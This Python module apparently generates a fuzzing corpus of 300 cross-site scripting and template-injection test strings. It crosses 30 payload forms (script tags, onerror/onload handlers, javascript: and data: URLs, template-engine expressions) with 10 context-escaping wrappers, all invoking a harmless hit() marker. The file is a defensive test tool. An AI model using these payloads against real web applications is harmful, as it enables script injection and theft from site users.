"""Strings that run a script where text is taken for markup, an address or a script."""

from itertools import cycle, islice, product

CALL = "hit()"
MARKUP = [
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src=javascript:parent.{c}></iframe>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>x</details>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<a href=javascript:{c} autofocus onfocus={c}>x</a>",
    "<math><mtext><script>{c}</script></mtext></math>",
    "<object data=javascript:{c}></object>",
    "<link rel=stylesheet href=x onerror={c}>",
    "<style onload={c}></style>",
    "<template><script>{c}</script></template><script>{c}</script>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<img src=x onerror=&#104;it()>",
    "<SCRIPT>{c}</SCRIPT>",
    "<scr<script>ipt>{c}</script>",
    "<img/src=x/onerror={c}>",
    "<img src=`x` onerror={c}>",
    "{{{{constructor.constructor('{c}')()}}}}",
    "{{% raw %}}<script>{c}</script>{{% endraw %}}",
    "{{{{ self._TemplateReference__context }}}}<script>{c}</script>",
    "${{{c}}}",
    "javascript:{c}",
    "data:text/html,<script>{c}</script>",
    "https://example.org/\"onmouseover={c} autofocus onfocus={c} x=\"",
]
AROUND = [
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</p></dd></dl></article>{}",
    "--> {} <!--",
    "]]>{}",
    "asthma {} in Leeds",
    "\u003c\u2028{}",
]


def strings(count: int) -> list[str]:
    """The first of the 300, round and round through the kinds."""
    every = [around.format(text.format(c=CALL)) for around, text in product(AROUND, MARKUP)]
    step = 37  # Prime to 300: neighbours are of different kinds.
    return list(islice((every[at * step % len(every)] for at in cycle(range(len(every)))), count))
